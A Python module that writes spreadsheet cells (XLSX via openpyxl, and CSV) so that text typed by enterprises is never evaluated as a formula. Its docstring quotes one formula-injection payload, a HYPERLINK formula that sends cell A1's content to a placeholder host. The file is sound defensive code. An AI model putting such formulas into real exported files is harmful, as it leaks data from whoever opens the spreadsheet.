"""Cells of the spreadsheets Ladder writes (XLSX and CSV), safe to open.

The 推荐汇总表 the ministry opens carries names that enterprises typed: a name
`=HYPERLINK("http://x/?"&A1,"点击查看")` used to be stored as a formula (openpyxl makes any
string starting with `=` one). Every cell that carries text is therefore written as text:

- XLSX: the cell's type is a string (`t="inlineStr"`/`"s"`), never a formula, and it has the
  quote prefix (Excel's leading apostrophe), so editing it does not turn it into one either.
  The value itself is kept exactly (a re-import reads back what was written).
- CSV (no types): a value starting with `=`, `+`, `-`, `@`, a tab or a carriage return — what
  a spreadsheet may read as a formula or a DDE call — gets a leading apostrophe (OWASP's
  CSV-injection advice).
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_text(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet could evaluate is neutralised; other values pass."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_text(v) for v in values]


def text_cell(sheet: Worksheet, value: Any) -> Cell:
    """A cell holding `value`; text is typed as text (never a formula)."""
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_STARTS):
            cell.quotePrefix = True
    return cell


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """`sheet.append(values)`, with every text cell written as text."""
    sheet.append([text_cell(sheet, v) for v in values])
